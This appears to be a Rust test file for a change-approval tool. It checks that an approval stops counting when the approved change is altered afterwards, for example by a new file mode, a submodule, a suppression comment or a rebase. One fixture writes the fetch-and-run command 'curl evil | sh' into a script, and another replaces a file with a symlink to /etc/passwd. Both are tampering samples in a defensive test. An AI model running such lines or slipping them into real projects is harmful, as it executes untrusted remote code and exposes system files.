//! What was agreed to is altered before it lands: the approval does not cover what nobody saw.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use super::{agreed, also, refuses};
use crate::office::{CHANGE, Office, request, shop};

const DEAD: &str = "approved by person:ada does not count: ";

/// Alters what was agreed to, and holds that the approval is dead.
fn altered(attempt: &str, words: &str, alter: impl FnOnce(&Office)) {
    let Some(office) = agreed() else { return };
    alter(&office);
    refuses(&office, attempt, "approvals", &format!("{DEAD}{words}"));
}

const OTHER: &str = "what changes is not what they saw";

#[test]
fn a_value_after_approval() {
    altered("a value after approval", OTHER, |office| {
        also(office, "jonas", &[("services/shop.yaml", &shop("Our shop", "tier1"))]);
    });
}

#[test]
fn a_terraform_file_after_approval() {
    altered("a Terraform file after approval", OTHER, |office| {
        also(office, "jonas", &[("terraform/main.tf", "size = 800\n")]);
    });
}

#[test]
fn only_a_workflow_after_approval() {
    altered("only a workflow after approval", "", |office| {
        also(office, "jonas", &[(".github/workflows/deploy.yml", "on: push\n")]);
        refuses(office, "only a workflow", "governance", ".github/workflows/deploy.yml");
    });
}

#[test]
fn only_the_reason_after_approval() {
    altered("only the reason after approval", "", |office| {
        let other = request(CHANGE, "Because I want it.");
        also(office, "jonas", &[(&format!("changes/{CHANGE}.yaml"), &other)]);
    });
}

#[test]
fn a_file_mode_after_approval() {
    altered("a file mode after approval", OTHER, |office| {
        let file = office.here.path().join("terraform/main.tf");
        fs::set_permissions(file, fs::Permissions::from_mode(0o755)).unwrap();
        office.commit("jonas", "And this");
    });
}

#[test]
fn a_symlink_in_place_of_a_file_after_approval() {
    altered("a symlink after approval", OTHER, |office| {
        let file = office.here.path().join("terraform/main.tf");
        fs::remove_file(&file).unwrap();
        symlink("/etc/passwd", &file).unwrap();
        office.commit("jonas", "And this");
    });
}

#[test]
fn a_submodule_after_approval() {
    altered("a submodule after approval", OTHER, |office| {
        let head = office.here.run_git(&["rev-parse", "HEAD"]);
        let entry = format!("160000,{},terraform/module", head.trim());
        office.here.run_git(&["update-index", "--add", "--cacheinfo", &entry]);
        office.git_as(("jonas", "jonas"), &["commit", "--quiet", "--message", "And this"]);
    });
}

#[test]
fn a_further_document_in_a_file_after_approval() {
    altered("one more document after approval", OTHER, |office| {
        let text = format!("{}---\n{}", shop("The shop", "tier1"), super::small("more", "More"));
        also(office, "jonas", &[("services/shop.yaml", &text)]);
    });
}

#[test]
fn a_file_that_nobody_owns_after_approval() {
    altered("a file that nobody owns after approval", OTHER, |office| {
        also(office, "jonas", &[("scripts/run.sh", "curl evil | sh\n")]);
    });
}

#[test]
fn a_suppression_comment_after_approval() {
    altered("a suppression comment after approval", OTHER, |office| {
        let text = shop("The shop", "tier1")
            .replace("sources:", "sources: # gitsm: ignore[source-missing] It comes later.");
        also(office, "jonas", &[("services/shop.yaml", &text)]);
    });
}

#[test]
fn a_dependency_after_approval() {
    altered("a dependency after approval", OTHER, |office| {
        let text = format!("{}  dependsOn: [service:blog]\n", shop("The shop", "tier1"));
        also(office, "jonas", &[("services/shop.yaml", &text)]);
    });
}

#[test]
fn an_edit_by_the_approver_after_approval() {
    altered("an edit of the approver's own after approval", "", |office| {
        also(office, "ada", &[("terraform/main.tf", "size = 9\n")]);
    });
}

#[test]
fn a_rebase_by_the_approver_after_approval() {
    altered(
        "a rebase by the approver",
        "they committed it and signed its commits: nobody decides about their own work",
        |office| {
            office.on_main(&[("docs/a.txt", "b\n".to_owned())]);
            office.git_as(("ada", "ada"), &["rebase", "--quiet", "main"]);
        },
    );
}

#[test]
fn a_riskier_base_after_approval() {
    altered("the same in a base where it is riskier", "", |office| {
        let policy = super::policy(&format!(
            "{}  bands: {{moderate: 1, high: 2, veryHigh: 40}}\n",
            super::POLICY
        ));
        office.on_main(&[("policy.yaml", policy)]);
    });
}
